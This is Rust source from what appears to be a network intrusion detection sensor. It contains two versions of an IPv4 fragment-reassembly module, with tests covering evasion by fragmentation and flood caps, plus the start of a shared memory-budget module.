        pieces.sort_by_key(|(off, _)| *off);
        for (off, data) in &pieces {
            for (i, &b) in data.iter().enumerate() {
                let at = off + i;
                if at < total && !covered[at] {
                    out[at] = b;
                    covered[at] = true;
                }
            }
        }
        covered.iter().all(|&c| c).then_some(out)
    }
}

/// Largest IPv4 payload a rebuilt packet can carry: `total_len` is a u16
/// that includes the 20-byte header, so anything bigger is unrepresentable.
pub const MAX_DATAGRAM: usize = 65_515;

/// Caps to bound memory on hostile fragment floods.
#[derive(Debug, Clone)]
pub struct DefragConfig {
    /// Maximum datagrams under reassembly at once.
    pub max_pending: usize,
    /// Maximum reassembled datagram size (clamped to [`MAX_DATAGRAM`]).
    pub max_datagram: usize,
    /// Reassembly timeout in microseconds.
    pub timeout_micros: u64,
}

impl Default for DefragConfig {
    fn default() -> Self {
        DefragConfig {
            max_pending: 4096,
            max_datagram: 65_535,
            timeout_micros: 30 * 1_000_000,
        }
    }
}

/// Why the defragmenter discarded a fragment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DefragDrop {
    /// Pending-table cap hit under a fragment flood.
    CapExceeded,
    /// Fragment would grow its datagram past `max_datagram` (the datagram's
    /// already-buffered pieces are discarded with it).
    Oversize,
    /// Completed datagram could not be rebuilt into a valid packet.
    Invalid,
}

/// Per-packet outcome of [`Defragmenter::ingest`]. Every fragment fed in is
/// eventually attributed to exactly one of: a reassembled datagram's piece
/// count, a drop counter in [`DefragStats`], or the drain at end of capture.
#[derive(Debug)]
pub enum DefragOutcome {
    /// Not a fragment; forwarded unchanged.
    Passthrough(Packet),
    /// This fragment completed its datagram; `pieces` fragments were
    /// consumed to build the returned packet.
    Reassembled {
        /// The reassembled whole datagram.
        packet: Packet,
        /// Fragments consumed to build it (for ledger credit).
        pieces: u64,
    },
    /// Buffered awaiting the rest of its datagram.
    Buffered,
    /// Discarded; the matching counter in [`DefragStats`] has been bumped.
    Dropped(DefragDrop),
}

/// Cumulative drop accounting, in fragments (one ingested packet each).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DefragStats {
    /// Fragments refused at the pending-table cap.
    pub cap_exceeded: u64,
    /// Fragments discarded because a datagram outgrew `max_datagram`
    /// (includes that datagram's previously buffered pieces).
    pub oversize: u64,
    /// Buffered fragments discarded when their datagram timed out.
    pub timeout: u64,
    /// Fragments of completed datagrams that failed to rebuild.
    pub invalid: u64,
    /// Buffered fragments discarded by [`Defragmenter::drain_incomplete`].
    pub incomplete: u64,
}

impl DefragStats {
    /// Every fragment dropped for any reason.
    pub fn total(&self) -> u64 {
        self.cap_exceeded + self.oversize + self.timeout + self.invalid + self.incomplete
    }
}

/// The defragmenter.
#[derive(Debug)]
pub struct Defragmenter {
    pending: HashMap<FragKey, Datagram>,
    config: DefragConfig,
    stats: DefragStats,
    /// Shared byte accounting; buffered fragment payloads are charged here
    /// and released when their datagram completes, expires, or is dropped.
    budget: Arc<MemoryBudget>,
}

impl Default for Defragmenter {
    fn default() -> Self {
        // Route through `new` so the `max_datagram` clamp always applies.
        Defragmenter::new(DefragConfig::default())
    }
}

impl Defragmenter {
    /// With custom caps and a private unlimited budget.
    pub fn new(config: DefragConfig) -> Self {
        Defragmenter::with_budget(config, Arc::new(MemoryBudget::unlimited()))
    }

    /// With custom caps, charging buffered fragment bytes to a shared
    /// budget. At `Critical` pressure the defragmenter refuses to open
    /// *new* datagrams (counted as `cap_exceeded`); in-progress datagrams
    /// may still complete, since their remaining cost is bounded.
    pub fn with_budget(mut config: DefragConfig, budget: Arc<MemoryBudget>) -> Self {
        // A datagram larger than MAX_DATAGRAM cannot be expressed as a
        // rebuilt IPv4 packet; clamping here keeps rebuild total.
        config.max_datagram = config.max_datagram.min(MAX_DATAGRAM);
        Defragmenter {
            pending: HashMap::new(),
            config,
            stats: DefragStats::default(),
            budget,
        }
    }

    /// Number of datagrams currently buffered.
    pub fn pending(&self) -> usize {
        self.pending.len()
    }

    /// Cumulative drop accounting.
    pub fn stats(&self) -> DefragStats {
        self.stats
    }

    /// Feed one packet (compat wrapper over [`Defragmenter::ingest`]).
    ///
    /// Non-fragments pass through untouched (`Some(packet)` as-is).
    /// Fragments are buffered; when one completes its datagram, the
    /// reassembled packet is returned in its place. Buffering and drops
    /// both surface as `None`; use `ingest` to tell them apart.
    pub fn process(&mut self, packet: Packet) -> Option<Packet> {
        match self.ingest(packet) {
            DefragOutcome::Passthrough(p) | DefragOutcome::Reassembled { packet: p, .. } => Some(p),
            DefragOutcome::Buffered | DefragOutcome::Dropped(_) => None,
        }
    }

    /// Feed one packet, reporting exactly what became of it.
    pub fn ingest(&mut self, packet: Packet) -> DefragOutcome {
        let Some(ip) = packet.ip().copied() else {
            return DefragOutcome::Passthrough(packet);
        };
        if !ip.more_fragments && ip.fragment_offset == 0 {
            return DefragOutcome::Passthrough(packet);
        }

        // Expire stale datagrams opportunistically, accounting their pieces
        // and releasing their buffered bytes from the budget.
        let horizon = packet.ts_micros.saturating_sub(self.config.timeout_micros);
        let mut expired = 0u64;
        let mut expired_bytes = 0u64;
        self.pending.retain(|_, d| {
            if d.first_ts >= horizon {
                true
            } else {
                expired += d.pieces.len() as u64;
                expired_bytes += d.bytes as u64;
                false
            }
        });
        self.stats.timeout += expired;
        self.budget.release(expired_bytes);

        let key = FragKey {
            src: ip.src,
            dst: ip.dst,
            id: ip.identification,
            proto: ip.protocol.value(),
        };
        let is_new = !self.pending.contains_key(&key);
        if is_new && (self.pending.len() >= self.config.max_pending || self.budget.over_critical())
        {
            // Flood cap or critical memory pressure: refuse to open new
            // datagram state rather than balloon.
            self.stats.cap_exceeded += 1;
            return DefragOutcome::Dropped(DefragDrop::CapExceeded);
        }
        let offset = usize::from(ip.fragment_offset) * 8;
        let payload = packet.payload();
        if offset + payload.len() > self.config.max_datagram {
            let (buffered, bytes) = self
                .pending
                .remove(&key)
                .map_or((0, 0), |d| (d.pieces.len() as u64, d.bytes as u64));
            self.stats.oversize += buffered + 1;
            self.budget.release(bytes);
            return DefragOutcome::Dropped(DefragDrop::Oversize);
        }

        let entry = self.pending.entry(key).or_insert_with(|| Datagram {
            first_ts: packet.ts_micros,
            ..Datagram::default()
        });
        entry.pieces.push((offset, payload.to_vec()));
        entry.bytes += payload.len();
        self.budget.charge(payload.len() as u64);
        if !ip.more_fragments {
            entry.total_len = Some(offset + payload.len());
        }

        let Some(done) = entry.complete() else {
            return DefragOutcome::Buffered;
        };
        let pieces = entry.pieces.len() as u64;
        let bytes = entry.bytes as u64;
        self.pending.remove(&key);
        self.budget.release(bytes);
        match rebuild(&packet, &ip, &done) {
            Some(packet) => DefragOutcome::Reassembled { packet, pieces },
            None => {
                self.stats.invalid += pieces;
                DefragOutcome::Dropped(DefragDrop::Invalid)
            }
        }
    }

    /// Discard everything still buffered (end of capture), accounting the
    /// fragments as incomplete and releasing their bytes from the budget.
    /// Returns how many fragments were discarded.
    pub fn drain_incomplete(&mut self) -> u64 {
        let n: u64 = self.pending.values().map(|d| d.pieces.len() as u64).sum();
        let bytes: u64 = self.pending.values().map(|d| d.bytes as u64).sum();
        self.pending.clear();
        self.stats.incomplete += n;
        self.budget.release(bytes);
        n
    }
}

/// Rebuild a whole unfragmented packet around the reassembled transport
/// payload. `None` when the datagram cannot be expressed as a valid packet
/// (e.g. larger than an IPv4 `total_len` can encode).
fn rebuild(template: &Packet, ip: &Ipv4Header, l4: &[u8]) -> Option<Packet> {
    if l4.len() > MAX_DATAGRAM {
        return None;
    }
    let mut frame = Vec::with_capacity(ETHERNET_HEADER_LEN + 20 + l4.len());
    frame.extend_from_slice(&template.ethernet().to_bytes());
    frame.extend_from_slice(&Ipv4Header::build(
        ip.src,
        ip.dst,
        ip.protocol,
        l4.len(),
        ip.identification,
        ip.ttl,
    ));
    frame.extend_from_slice(l4);
    Packet::decode(template.ts_micros, frame).ok()
}

/// Split a packet's transport payload into IP fragments (test/workload
/// helper — this is what an evading attacker sends).
pub fn fragment_packet(packet: &Packet, mtu_payload: usize) -> Vec<Packet> {
    let Some(ip) = packet.ip() else {
        return vec![packet.clone()];
    };
    let l4 = &packet.raw()[ETHERNET_HEADER_LEN + ip.header_len..ETHERNET_HEADER_LEN + ip.total_len];
    let chunk = (mtu_payload / 8).max(1) * 8; // fragment offsets are 8-byte units
    if l4.len() <= chunk {
        return vec![packet.clone()];
    }
    let mut out = Vec::new();
    let mut off = 0usize;
    while off < l4.len() {
        let end = (off + chunk).min(l4.len());
        let more = end < l4.len();
        let mut hdr = Ipv4Header::build(
            ip.src,
            ip.dst,
            ip.protocol,
            end - off,
            ip.identification,
            ip.ttl,
        );
        // splice fragment flags/offset into the prebuilt header
        let frag_field = ((off / 8) as u16 & 0x1fff) | if more { 0x2000 } else { 0 };
        hdr[6..8].copy_from_slice(&frag_field.to_be_bytes());
        hdr[10..12].copy_from_slice(&[0, 0]);
        let c = snids_packet::checksum::checksum(&hdr);
        hdr[10..12].copy_from_slice(&c.to_be_bytes());

        let mut frame = Vec::with_capacity(ETHERNET_HEADER_LEN + 20 + end - off);
        frame.extend_from_slice(&packet.ethernet().to_bytes());
        frame.extend_from_slice(&hdr);
        frame.extend_from_slice(&l4[off..end]);
        // Rebuilt from a decoded packet, so this never fails in practice;
        // stay total anyway rather than panic on a pathological input.
        if let Ok(frag) = Packet::decode(packet.ts_micros + (off / chunk) as u64, frame) {
            out.push(frag);
        }
        off = end;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};

    fn sample(payload_len: usize) -> Packet {
        let payload: Vec<u8> = (0..payload_len).map(|i| (i % 251) as u8).collect();
        PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2))
            .at(500)
            .tcp(4000, 80, 7, 0, TcpFlags::ACK | TcpFlags::PSH, &payload)
            .unwrap()
    }

    #[test]
    fn non_fragments_pass_through() {
        let p = sample(100);
        let mut d = Defragmenter::default();
        let out = d.process(p.clone()).unwrap();
        assert_eq!(out.raw(), p.raw());
        assert_eq!(d.pending(), 0);
    }

    #[test]
    fn fragments_reassemble_to_the_original_segment() {
        let p = sample(3000);
        let frags = fragment_packet(&p, 800);
        assert!(frags.len() >= 4);
        // mid-fragments must not claim to be TCP
        assert!(frags[1].tcp().is_none());

        let mut d = Defragmenter::default();
        let mut done = None;
        for f in frags {
            if let Some(out) = d.process(f) {
                done = Some(out);
            }
        }
        let out = done.expect("datagram completes");
        assert_eq!(out.payload(), p.payload());
        assert_eq!(out.tcp().unwrap().seq, 7);
        assert_eq!(d.pending(), 0);
    }

    #[test]
    fn out_of_order_fragments_reassemble() {
        let p = sample(2400);
        let mut frags = fragment_packet(&p, 800);
        frags.reverse();
        let mut d = Defragmenter::default();
        let mut done = None;
        for f in frags {
            if let Some(out) = d.process(f) {
                done = Some(out);
            }
        }
        assert_eq!(done.unwrap().payload(), p.payload());
    }

    #[test]
    fn incomplete_datagram_stays_pending() {
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        let mut d = Defragmenter::default();
        for f in &frags[..frags.len() - 1] {
            assert!(d.process(f.clone()).is_none());
        }
        assert_eq!(d.pending(), 1);
    }

    #[test]
    fn interleaved_datagrams_reassemble_independently() {
        let a = sample(1600);
        let b = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 9), Ipv4Addr::new(10, 0, 0, 2))
            .at(600)
            .identification(99)
            .tcp(5000, 80, 1, 0, TcpFlags::ACK, &vec![0xE5u8; 1600])
            .unwrap();
        let fa = fragment_packet(&a, 800);
        let fb = fragment_packet(&b, 800);
        let mut d = Defragmenter::default();
        let mut outs = Vec::new();
        for (x, y) in fa.iter().zip(&fb) {
            if let Some(o) = d.process(x.clone()) {
                outs.push(o);
            }
            if let Some(o) = d.process(y.clone()) {
                outs.push(o);
            }
        }
        assert_eq!(outs.len(), 2);
        assert!(outs.iter().any(|o| o.payload() == a.payload()));
        assert!(outs.iter().any(|o| o.payload() == b.payload()));
    }

    #[test]
    fn stale_datagrams_expire() {
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        let mut d = Defragmenter::new(DefragConfig {
            timeout_micros: 1_000,
            ..DefragConfig::default()
        });
        d.process(frags[0].clone());
        assert_eq!(d.pending(), 1);
        // a much later unrelated fragment expires the stale one
        let late = PacketBuilder::new(Ipv4Addr::new(1, 1, 1, 1), Ipv4Addr::new(2, 2, 2, 2))
            .at(10_000_000)
            .tcp(1, 2, 0, 0, TcpFlags::ACK, &vec![0u8; 1600])
            .unwrap();
        let late_frag = fragment_packet(&late, 800).remove(0);
        d.process(late_frag);
        assert_eq!(d.pending(), 1, "only the fresh datagram remains");
    }

    #[test]
    fn oversize_and_flood_caps() {
        let mut d = Defragmenter::new(DefragConfig {
            max_pending: 2,
            max_datagram: 1024,
            ..DefragConfig::default()
        });
        // oversize: offset+len beyond cap is dropped
        let p = sample(4000);
        let frags = fragment_packet(&p, 1600);
        assert!(d.process(frags[1].clone()).is_none());
        assert_eq!(d.stats().oversize, 1);
        // flood: at most max_pending distinct datagrams tracked
        for i in 0..5u16 {
            let q = PacketBuilder::new(Ipv4Addr::new(9, 9, 9, 9), Ipv4Addr::new(8, 8, 8, 8))
                .identification(i)
                .tcp(1, 2, 0, 0, TcpFlags::ACK, &vec![1u8; 900])
                .unwrap();
            let f = fragment_packet(&q, 256).remove(0);
            d.process(f);
        }
        assert!(d.pending() <= 2);
        assert_eq!(d.stats().cap_exceeded, 3);
    }

    #[test]
    fn frag_flood_beyond_cap_is_counted() {
        // Regression for the accounting invariant: every fragment refused at
        // the pending cap must land in the cap_exceeded counter.
        let mut d = Defragmenter::new(DefragConfig {
            max_pending: 4,
            ..DefragConfig::default()
        });
        for i in 0..16u16 {
            let q = PacketBuilder::new(Ipv4Addr::new(9, 9, 9, 9), Ipv4Addr::new(8, 8, 8, 8))
                .identification(i)
                .tcp(1, 2, 0, 0, TcpFlags::ACK, &vec![1u8; 900])
                .unwrap();
            let f = fragment_packet(&q, 256).remove(0);
            assert!(d.process(f).is_none());
        }
        assert_eq!(d.pending(), 4);
        assert_eq!(d.stats().cap_exceeded, 12);
        assert_eq!(d.drain_incomplete(), 4);
        assert_eq!(d.stats().total(), 16);
        assert_eq!(d.pending(), 0);
    }

    #[test]
    fn budget_tracks_buffered_fragment_bytes() {
        use crate::budget::MemoryBudget;
        let budget = Arc::new(MemoryBudget::unlimited());
        let mut d = Defragmenter::with_budget(DefragConfig::default(), Arc::clone(&budget));
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        let mut completed = false;
        for f in frags {
            if d.process(f).is_some() {
                completed = true;
            } else {
                assert!(budget.tracked() > 0, "pending pieces are charged");
            }
        }
        assert!(completed);
        assert_eq!(budget.tracked(), 0, "completion releases every byte");
        assert!(budget.peak() >= 1600, "both buffered pieces counted");

        // Incomplete datagrams release on drain.
        let q = sample(2400);
        let frags = fragment_packet(&q, 800);
        d.process(frags[0].clone());
        assert!(budget.tracked() > 0);
        d.drain_incomplete();
        assert_eq!(budget.tracked(), 0, "drain releases every byte");
    }

    #[test]
    fn critical_pressure_refuses_new_datagrams() {
        use crate::budget::MemoryBudget;
        let budget = Arc::new(MemoryBudget::limited(1000));
        budget.charge(950); // someone else pushed us past critical (900)
        let mut d = Defragmenter::with_budget(DefragConfig::default(), Arc::clone(&budget));
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        assert!(matches!(
            d.ingest(frags[0].clone()),
            DefragOutcome::Dropped(DefragDrop::CapExceeded)
        ));
        assert_eq!(d.stats().cap_exceeded, 1);
        assert_eq!(d.pending(), 0);
        // Below critical again, the same fragment is accepted.
        budget.release(500);
        assert!(matches!(
            d.ingest(frags[0].clone()),
            DefragOutcome::Buffered
        ));
    }

    #[test]
    fn oversize_datagram_cannot_reach_rebuild() {
        // Regression: a complete 65_520-byte datagram used to reach
        // rebuild(), whose 16-bit IPv4 total_len wrapped and tripped an
        // expect(). new() now clamps max_datagram so the oversize check
        // fires first, and rebuild itself became fallible.
        let template = sample(64);
        let eth = template.ethernet().to_bytes();
        let mut d = Defragmenter::new(DefragConfig {
            max_datagram: 100_000, // hostile/misconfigured cap, gets clamped
            ..DefragConfig::default()
        });
        let chunk = 8184usize; // multiple of 8
        let total = 65_520usize; // > MAX_DATAGRAM, still encodable as offsets
        let mut off = 0usize;
        let mut last = None;
        let mut fed = 0u64;
        while off < total {
            let end = (off + chunk).min(total);
            let more = end < total;
            let mut hdr = Ipv4Header::build(
                Ipv4Addr::new(10, 0, 0, 1),
                Ipv4Addr::new(10, 0, 0, 2),
                snids_packet::IpProtocol::Tcp,
                end - off,
                77,
                64,
            );
            let frag_field = ((off / 8) as u16 & 0x1fff) | if more { 0x2000 } else { 0 };
            hdr[6..8].copy_from_slice(&frag_field.to_be_bytes());
            hdr[10..12].copy_from_slice(&[0, 0]);
            let c = snids_packet::checksum::checksum(&hdr);
            hdr[10..12].copy_from_slice(&c.to_be_bytes());
            let mut frame = Vec::with_capacity(ETHERNET_HEADER_LEN + 20 + end - off);
            frame.extend_from_slice(&eth);
            frame.extend_from_slice(&hdr);
            frame.extend_from_slice(&vec![0xAB; end - off]);
            let pkt = Packet::decode(0, frame).expect("fragment frame decodes");
            last = Some(d.ingest(pkt));
            fed += 1;
            off = end;
        }
        assert!(matches!(
            last,
            Some(DefragOutcome::Dropped(DefragDrop::Oversize))
        ));
        // The final fragment plus everything buffered before it.
        assert_eq!(d.stats().oversize, fed);
        assert_eq!(d.pending(), 0);
    }
}
