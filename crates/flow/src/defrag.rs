//! IPv4 fragment reassembly.
//!
//! Attackers split exploit datagrams across IP fragments so that no single
//! packet contains a parseable transport header (fragroute-style evasion).
//! The defragmenter buffers fragments by `(src, dst, id, proto)` and, once
//! the datagram is complete, rebuilds a whole packet the rest of the
//! pipeline can dissect normally.

use snids_packet::{Ipv4Header, Packet, ETHERNET_HEADER_LEN};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Reassembly key per RFC 791.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
struct FragKey {
    src: Ipv4Addr,
    dst: Ipv4Addr,
    id: u16,
    proto: u8,
}

#[derive(Debug, Default)]
struct Datagram {
    /// (offset, bytes) pieces, first-copy-wins on overlap.
    pieces: Vec<(usize, Vec<u8>)>,
    /// Total length once the final fragment arrives.
    total_len: Option<usize>,
    first_ts: u64,
}

impl Datagram {
    fn complete(&self) -> Option<Vec<u8>> {
        let total = self.total_len?;
        let mut out = vec![0u8; total];
        let mut covered = vec![false; total];
        let mut pieces = self.pieces.clone();
        pieces.sort_by_key(|(off, _)| *off);
        for (off, data) in &pieces {
            for (i, &b) in data.iter().enumerate() {
                let at = off + i;
                if at < total && !covered[at] {
                    out[at] = b;
                    covered[at] = true;
                }
            }
        }
        covered.iter().all(|&c| c).then_some(out)
    }
}

/// Caps to bound memory on hostile fragment floods.
#[derive(Debug, Clone)]
pub struct DefragConfig {
    /// Maximum datagrams under reassembly at once.
    pub max_pending: usize,
    /// Maximum reassembled datagram size.
    pub max_datagram: usize,
    /// Reassembly timeout in microseconds.
    pub timeout_micros: u64,
}

impl Default for DefragConfig {
    fn default() -> Self {
        DefragConfig {
            max_pending: 4096,
            max_datagram: 65_535,
            timeout_micros: 30 * 1_000_000,
        }
    }
}

/// The defragmenter.
#[derive(Debug, Default)]
pub struct Defragmenter {
    pending: HashMap<FragKey, Datagram>,
    config: DefragConfig,
}

impl Defragmenter {
    /// With custom caps.
    pub fn new(config: DefragConfig) -> Self {
        Defragmenter {
            pending: HashMap::new(),
            config,
        }
    }

    /// Number of datagrams currently buffered.
    pub fn pending(&self) -> usize {
        self.pending.len()
    }

    /// Feed one packet.
    ///
    /// Non-fragments pass through untouched (`Some(packet)` as-is).
    /// Fragments are buffered; when one completes its datagram, the
    /// reassembled packet is returned in its place.
    pub fn process(&mut self, packet: Packet) -> Option<Packet> {
        let Some(ip) = packet.ip().copied() else {
            return Some(packet);
        };
        if !ip.more_fragments && ip.fragment_offset == 0 {
            return Some(packet);
        }

        // Expire stale datagrams opportunistically.
        let horizon = packet.ts_micros.saturating_sub(self.config.timeout_micros);
        self.pending.retain(|_, d| d.first_ts >= horizon);

        let key = FragKey {
            src: ip.src,
            dst: ip.dst,
            id: ip.identification,
            proto: ip.protocol.value(),
        };
        if !self.pending.contains_key(&key) && self.pending.len() >= self.config.max_pending {
            return None; // flood cap: drop rather than balloon
        }
        let offset = usize::from(ip.fragment_offset) * 8;
        let payload = packet.payload();
        if offset + payload.len() > self.config.max_datagram {
            self.pending.remove(&key);
            return None;
        }

        let entry = self.pending.entry(key).or_insert_with(|| Datagram {
            first_ts: packet.ts_micros,
            ..Datagram::default()
        });
        entry.pieces.push((offset, payload.to_vec()));
        if !ip.more_fragments {
            entry.total_len = Some(offset + payload.len());
        }

        let done = entry.complete()?;
        self.pending.remove(&key);
        Some(rebuild(&packet, &ip, &done))
    }
}

/// Rebuild a whole unfragmented packet around the reassembled transport
/// payload.
fn rebuild(template: &Packet, ip: &Ipv4Header, l4: &[u8]) -> Packet {
    let mut frame = Vec::with_capacity(ETHERNET_HEADER_LEN + 20 + l4.len());
    frame.extend_from_slice(&template.ethernet().to_bytes());
    frame.extend_from_slice(&Ipv4Header::build(
        ip.src,
        ip.dst,
        ip.protocol,
        l4.len(),
        ip.identification,
        ip.ttl,
    ));
    frame.extend_from_slice(l4);
    // The rebuilt frame is well-formed by construction.
    Packet::decode(template.ts_micros, frame).expect("rebuilt packet is well-formed")
}

/// Split a packet's transport payload into IP fragments (test/workload
/// helper — this is what an evading attacker sends).
pub fn fragment_packet(packet: &Packet, mtu_payload: usize) -> Vec<Packet> {
    let Some(ip) = packet.ip() else {
        return vec![packet.clone()];
    };
    let l4 = &packet.raw()[ETHERNET_HEADER_LEN + ip.header_len..ETHERNET_HEADER_LEN + ip.total_len];
    let chunk = (mtu_payload / 8).max(1) * 8; // fragment offsets are 8-byte units
    if l4.len() <= chunk {
        return vec![packet.clone()];
    }
    let mut out = Vec::new();
    let mut off = 0usize;
    while off < l4.len() {
        let end = (off + chunk).min(l4.len());
        let more = end < l4.len();
        let mut hdr = Ipv4Header::build(
            ip.src,
            ip.dst,
            ip.protocol,
            end - off,
            ip.identification,
            ip.ttl,
        );
        // splice fragment flags/offset into the prebuilt header
        let frag_field = ((off / 8) as u16 & 0x1fff) | if more { 0x2000 } else { 0 };
        hdr[6..8].copy_from_slice(&frag_field.to_be_bytes());
        hdr[10..12].copy_from_slice(&[0, 0]);
        let c = snids_packet::checksum::checksum(&hdr);
        hdr[10..12].copy_from_slice(&c.to_be_bytes());

        let mut frame = Vec::with_capacity(ETHERNET_HEADER_LEN + 20 + end - off);
        frame.extend_from_slice(&packet.ethernet().to_bytes());
        frame.extend_from_slice(&hdr);
        frame.extend_from_slice(&l4[off..end]);
        out.push(Packet::decode(packet.ts_micros + (off / chunk) as u64, frame).expect("fragment"));
        off = end;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};

    fn sample(payload_len: usize) -> Packet {
        let payload: Vec<u8> = (0..payload_len).map(|i| (i % 251) as u8).collect();
        PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2))
            .at(500)
            .tcp(4000, 80, 7, 0, TcpFlags::ACK | TcpFlags::PSH, &payload)
            .unwrap()
    }

    #[test]
    fn non_fragments_pass_through() {
        let p = sample(100);
        let mut d = Defragmenter::default();
        let out = d.process(p.clone()).unwrap();
        assert_eq!(out.raw(), p.raw());
        assert_eq!(d.pending(), 0);
    }

    #[test]
    fn fragments_reassemble_to_the_original_segment() {
        let p = sample(3000);
        let frags = fragment_packet(&p, 800);
        assert!(frags.len() >= 4);
        // mid-fragments must not claim to be TCP
        assert!(frags[1].tcp().is_none());

        let mut d = Defragmenter::default();
        let mut done = None;
        for f in frags {
            if let Some(out) = d.process(f) {
                done = Some(out);
            }
        }
        let out = done.expect("datagram completes");
        assert_eq!(out.payload(), p.payload());
        assert_eq!(out.tcp().unwrap().seq, 7);
        assert_eq!(d.pending(), 0);
    }

    #[test]
    fn out_of_order_fragments_reassemble() {
        let p = sample(2400);
        let mut frags = fragment_packet(&p, 800);
        frags.reverse();
        let mut d = Defragmenter::default();
        let mut done = None;
        for f in frags {
            if let Some(out) = d.process(f) {
                done = Some(out);
            }
        }
        assert_eq!(done.unwrap().payload(), p.payload());
    }

    #[test]
    fn incomplete_datagram_stays_pending() {
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        let mut d = Defragmenter::default();
        for f in &frags[..frags.len() - 1] {
            assert!(d.process(f.clone()).is_none());
        }
        assert_eq!(d.pending(), 1);
    }

    #[test]
    fn interleaved_datagrams_reassemble_independently() {
        let a = sample(1600);
        let b = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 9), Ipv4Addr::new(10, 0, 0, 2))
            .at(600)
            .identification(99)
            .tcp(5000, 80, 1, 0, TcpFlags::ACK, &vec![0xE5u8; 1600])
            .unwrap();
        let fa = fragment_packet(&a, 800);
        let fb = fragment_packet(&b, 800);
        let mut d = Defragmenter::default();
        let mut outs = Vec::new();
        for (x, y) in fa.iter().zip(&fb) {
            if let Some(o) = d.process(x.clone()) {
                outs.push(o);
            }
            if let Some(o) = d.process(y.clone()) {
                outs.push(o);
            }
        }
        assert_eq!(outs.len(), 2);
        assert!(outs.iter().any(|o| o.payload() == a.payload()));
        assert!(outs.iter().any(|o| o.payload() == b.payload()));
    }

    #[test]
    fn stale_datagrams_expire() {
        let p = sample(2400);
        let frags = fragment_packet(&p, 800);
        let mut d = Defragmenter::new(DefragConfig {
            timeout_micros: 1_000,
            ..DefragConfig::default()
        });
        d.process(frags[0].clone());
        assert_eq!(d.pending(), 1);
        // a much later unrelated fragment expires the stale one
        let late = PacketBuilder::new(Ipv4Addr::new(1, 1, 1, 1), Ipv4Addr::new(2, 2, 2, 2))
            .at(10_000_000)
            .tcp(1, 2, 0, 0, TcpFlags::ACK, &vec![0u8; 1600])
            .unwrap();
        let late_frag = fragment_packet(&late, 800).remove(0);
        d.process(late_frag);
        assert_eq!(d.pending(), 1, "only the fresh datagram remains");
    }

    #[test]
    fn oversize_and_flood_caps() {
        let mut d = Defragmenter::new(DefragConfig {
            max_pending: 2,
            max_datagram: 1024,
            ..DefragConfig::default()
        });
        // oversize: offset+len beyond cap is dropped
        let p = sample(4000);
        let frags = fragment_packet(&p, 1600);
        assert!(d.process(frags[1].clone()).is_none());
        // flood: at most max_pending distinct datagrams tracked
        for i in 0..5u16 {
            let q = PacketBuilder::new(Ipv4Addr::new(9, 9, 9, 9), Ipv4Addr::new(8, 8, 8, 8))
                .identification(i)
                .tcp(1, 2, 0, 0, TcpFlags::ACK, &vec![1u8; 900])
                .unwrap();
            let f = fragment_packet(&q, 256).remove(0);
            d.process(f);
        }
        assert!(d.pending() <= 2);
    }
}
