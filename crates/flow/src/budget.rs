//! The global memory budget the stateful pipeline stages report into.
//!
//! An attacker who cannot evade the analyzer can still try to make the
//! sensor *forget*: flood it with state until buffered flows or fragments
//! are discarded unanalyzed. The budget makes that pressure observable and
//! bounded. Every byte buffered by the flow table (stream + shadow
//! reassembly) and the defragmenter (pending fragment pieces) is charged
//! here, and the consumers ask [`MemoryBudget::level`] before allocating
//! more state:
//!
//! * **Normal** — below the high-water mark; full-fidelity buffering.
//! * **High** — new flows get degraded stream caps and no shadow
//!   retention; existing flows are untouched.
//! * **Critical** — the flow table sheds coldest-first until tracked bytes
//!   drop below critical again (victims are handed to the analyzer, not
//!   discarded — see `FlowTable::take_shed`), and the defragmenter stops
//!   opening new datagrams.
//!
//! The counters are atomics so one budget can be shared (via `Arc`)
//! between stages and read concurrently by a live metrics exporter without
//! any locking on the packet path.

use std::sync::atomic::{AtomicU64, Ordering};

/// High-water mark as a fraction of the limit: numerator / denominator.
const HIGH_WATER_NUM: u64 = 7;
/// Critical mark numerator (same denominator).
const CRITICAL_NUM: u64 = 9;
/// Shared denominator for the watermark fractions.
const WATERMARK_DEN: u64 = 10;

/// Memory-pressure level derived from tracked bytes vs. the ceiling.
///
/// Ordered: `Normal < High < Critical`, so consumers can ask
/// `level >= PressureLevel::High`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum PressureLevel {
    /// Below the high-water mark (or no limit configured).
    Normal,
    /// At or above high water: degrade new state, keep existing state.
    High,
    /// At or above critical: shed state until below critical again.
    Critical,
}

impl PressureLevel {
    /// Stable snake_case name (gauge label / flight-event rendering).
    pub fn name(self) -> &'static str {
        match self {
            PressureLevel::Normal => "normal",
            PressureLevel::High => "high",
            PressureLevel::Critical => "critical",
        }
    }

    /// Stable numeric code for gauges (0 / 1 / 2).
    pub fn code(self) -> u64 {
        match self {
            PressureLevel::Normal => 0,
            PressureLevel::High => 1,
            PressureLevel::Critical => 2,
        }
    }
}

/// Shared byte accounting with watermark levels. See the module docs.
#[derive(Debug)]
pub struct MemoryBudget {
    /// Configured ceiling in bytes; 0 means unlimited (accounting still
    /// runs, so `peak` is meaningful either way).
    limit: u64,
    /// Precomputed high-water threshold in bytes.
    high_water: u64,
    /// Precomputed critical threshold in bytes.
    critical: u64,
    tracked: AtomicU64,
    peak: AtomicU64,
}

impl Default for MemoryBudget {
    fn default() -> Self {
        MemoryBudget::unlimited()
    }
}

impl MemoryBudget {
    /// A budget with a byte ceiling (`0` = unlimited). Watermarks sit at
    /// 70 % (high) and 90 % (critical) of the ceiling.
    pub fn limited(limit: u64) -> MemoryBudget {
        MemoryBudget {
            limit,
            high_water: limit.saturating_mul(HIGH_WATER_NUM) / WATERMARK_DEN,
